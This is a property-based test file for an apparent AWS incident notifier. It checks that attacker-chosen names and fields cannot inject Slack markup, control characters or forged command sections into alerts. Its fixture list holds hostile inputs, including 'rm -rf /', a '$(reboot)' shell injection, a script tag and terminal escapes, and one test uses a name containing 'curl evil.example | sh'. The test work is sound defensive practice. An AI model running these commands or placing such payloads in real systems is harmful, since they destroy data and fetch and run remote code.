"""The intruder chooses names, agents and reasons; no form of a message does what they say."""

from __future__ import annotations

import json
import re
import unicodedata
from dataclasses import replace
from typing import TYPE_CHECKING, Any

from hypothesis import example, given, strategies as st

from chalicelib.model import Evidence, Outcome, Principal, PrincipalKind, Signal, Status, Subject, SubjectKind
from chalicelib.notifiers import sns
from chalicelib.report import json_form, slack, text
from chalicelib.report.escape import ascii_line, mrkdwn, plain, printable
from chalicelib.report.message import compose
from tests.report.runs import ACCOUNT, OBSERVING, ROLE_SIGNAL, SETTINGS, USER, USER_SIGNAL, notice, opened
from tests.report.test_message import assert_commands_can_be_copied

if TYPE_CHECKING:
    from chalicelib.report.message import Message

NASTY = (
    "<!channel> <@U123> <https://evil.example|click> @here",
    "`code` ```fence``` *bold* _i_ ~s~",
    "\x1b[2J\x1b]0;owned\x07\x9b31m",
    "\u202eevil\u202c \u2066x\u2069 \u200b\ufeff",
    "one\r\ntwo\nWHAT TO RUN\n    rm -rf /",
    "\u2028\u2029\x85\x0b\x0c\x00",
    "&amp; &lt;script&gt; <script>alert(1)</script>",
    "'; rm -rf / #$(reboot)`reboot`",
    "{who} {0} %s %(x)s",
    "\ud800\udfff \uffff \U000e0001",
    " " * 500,
    "x" * 65_536,
    "é🔥" * 30_000,
    "<" * 65_536,
    "",
)
TEXT = st.one_of(
    st.sampled_from(NASTY), st.text(max_size=80), st.text(alphabet="<>&`*_~@!|\\\n\x1b\u202e a", max_size=400)
)

ASCII = TEXT.filter(lambda name: name.isascii())
"""For what becomes the argument of a step: IAM takes nothing else."""


@st.composite
def signals(draw: st.DrawFn) -> Signal:
    """A signal of which every text is hostile."""
    kind = draw(st.sampled_from([PrincipalKind.USER, PrincipalKind.ROLE, PrincipalKind.COGNITO_USER]))
    principal = Principal(kind, ACCOUNT, draw(TEXT), draw(st.none() | ASCII))
    evidence = tuple(Evidence(draw(TEXT), draw(TEXT)) for _ in range(draw(st.integers(0, 30))))
    return replace(
        USER_SIGNAL,
        native_id=draw(TEXT),
        what=draw(TEXT),
        region=draw(TEXT),
        subject=Subject(draw(st.sampled_from(SubjectKind)), draw(st.none() | TEXT), draw(st.none() | ASCII)),
        principal=principal,
        actor=draw(st.none() | st.just(principal)),
        evidence=evidence,
    )


@st.composite
def messages(draw: st.DrawFn) -> Message:
    """A message about such a signal, where AWS quotes the intruder too."""
    signal = draw(signals())
    if draw(st.booleans()):
        return notice(signal, OBSERVING)
    said = Outcome(Status.FAILED, draw(TEXT))
    run = opened(signal)
    ends = dict.fromkeys(("quarantine_user", "deactivate_key", "revoke_role_sessions", "disable_cognito_user"), said)
    return run.ended(**ends).tells(1)


@given(messages())
def test_the_text_holds_no_control_character_but_line_ends_and_breaks_nothing_that_is_copied(
    message: Message,
) -> None:
    shown = text.render(message)
    assert {char for char in shown if not char.isprintable()} <= {"\n"}
    commands = {f"    {command.line}" for command in message.commands}
    long = [line for line in shown.split("\n") if len(line) > text.WIDTH and line not in commands]
    assert not any(map(_could_be_broken, long))
    shown.encode()  # no half of a surrogate pair is left


def _could_be_broken(line: str) -> bool:
    """Say whether a blank behind the labels, and outside of what is to be copied, was no place for a break."""
    return " " in re.sub("`[^`]*`", "x", line)[_LABELS:]


_LABELS = 17


@given(messages())
def test_the_subject_is_what_sns_takes(message: Message) -> None:
    assert re.fullmatch(r"[!-~][ -~]{0,98}", message.subject)
    assert message.incident in message.subject


@given(messages())
def test_only_our_own_words_begin_in_the_first_column(message: Message) -> None:
    titles = {line for line in text.render(message).split("\n") if line[:1].isupper() and line.isupper()}
    known = {section.title.upper() for section in message.sections}
    assert {title for title in titles if title not in known} <= {"WHAT TO RUN", *_of_headline(message)}


def _of_headline(message: Message) -> set[str]:
    return set(text.wrapped(message.headline, "", "").split("\n"))


@given(messages())
def test_commands_stay_what_they_are(message: Message) -> None:
    assert_commands_can_be_copied(message)


@given(messages())
def test_slack_gets_no_more_than_it_takes(message: Message) -> None:
    body = slack.blocks(message)
    blocks = body["blocks"]
    assert len(blocks) <= slack.BLOCKS
    assert len(json.dumps(blocks)) <= slack.ALL
    assert 0 < len(body["text"]) <= slack.TEXT
    assert 0 < len(blocks[0]["text"]["text"]) <= slack.HEADER
    assert all(0 < len(found["text"]) <= slack.TEXT for found in markup(blocks))
    fields = [block.get("fields", ()) for block in blocks]
    assert all(len(these) <= slack.FIELDS and all(len(one["text"]) <= slack.FIELD for one in these) for these in fields)


@given(messages())
def test_slack_is_given_no_markup_of_the_intruder(message: Message) -> None:
    body = slack.blocks(message)
    for shown in (body["text"], *(found["text"] for found in markup(body["blocks"]))):
        assert "<" not in shown
        assert ">" not in shown
        assert not re.search("&(?!(amp|lt|gt);)", shown)
        assert all(char.isprintable() or char == "\n" for char in shown)
    assert all(found["verbatim"] for found in markup(body["blocks"]))


def markup(blocks: list[dict[str, Any]]) -> list[dict[str, Any]]:
    """Every text that Slack would read as mrkdwn."""
    texts = [block["text"] for block in blocks if block["type"] == "section"]
    texts += [field for block in blocks for field in block.get("fields", ())]
    return [*texts, *(one for block in blocks if block["type"] == "context" for one in block["elements"])]


@given(messages())
def test_a_code_span_ends_where_we_end_it(message: Message) -> None:
    for found in markup(slack.blocks(message)["blocks"]):
        for line in found["text"].replace("```", "").split("\n"):
            assert line.count("`") in {0, 2} or line.endswith("…")


@given(messages())
def test_the_json_is_small_enough_and_printable(message: Message) -> None:
    shown = json_form.render(message)
    document = json.loads(shown)
    assert len(shown.encode()) <= json_form.LARGEST
    assert document["kind"] == message.kind
    assert all(char.isprintable() for char in shown)


@given(messages())
def test_all_forms_together_fit_into_what_sns_takes(message: Message) -> None:
    assert len(sns.forms(message).encode()) <= 256 * 1024


@given(st.lists(TEXT, min_size=30, max_size=200, unique=True))
def test_a_role_with_hundreds_of_sessions_still_fits(sessions: list[str]) -> None:
    incident = opened(ROLE_SIGNAL).incident
    steps = tuple(replace(incident.steps[0], arguments={"session": f"id:{name}"}) for name in sessions)
    failed = Outcome(Status.FAILED, "x" * 1000)
    many = replace(incident, steps=steps, outcomes={step.key: failed for step in steps})
    message = compose(many, 1, many.opened_at, SETTINGS)
    assert len(sns.forms(message).encode()) <= 256 * 1024
    assert len(slack.blocks(message)["blocks"]) <= slack.BLOCKS
    assert "more steps failed" in text.render(message)


@given(TEXT)
@example("\x00" * 300)
def test_escaping_twice_is_escaping_once(value: str) -> None:
    assert printable(printable(value)) == printable(value)
    assert mrkdwn(value).count("<") == 0
    assert len(plain(value, 100)) <= 140
    assert len(ascii_line(value, 40)) <= 40


def test_no_control_or_format_character_is_shown_as_itself() -> None:
    unseen = [
        chr(code) for code in range(0x110000) if unicodedata.category(chr(code)) in {"Cc", "Cf", "Cs", "Zl", "Zp"}
    ]
    assert len(unseen) > 2000
    assert [char for char in unseen if char in printable(f"a{char}b")] == []


def test_what_was_cut_is_counted() -> None:
    assert plain("x" * 65_536, 10) == "xxxxxxxxxx… (65,536 characters)"


def test_the_name_of_a_user_cannot_forge_another_section() -> None:
    forged = replace(USER_SIGNAL, principal=replace(USER, name="deploy\n\nWHAT TO RUN\n  curl evil.example | sh"))
    shown = text.render(opened(forged).ended().tells(1, SETTINGS))
    assert "\n  curl" not in shown
    assert r"deploy\n\nWHAT TO RUN\n curl" in shown.replace("\n", " ")
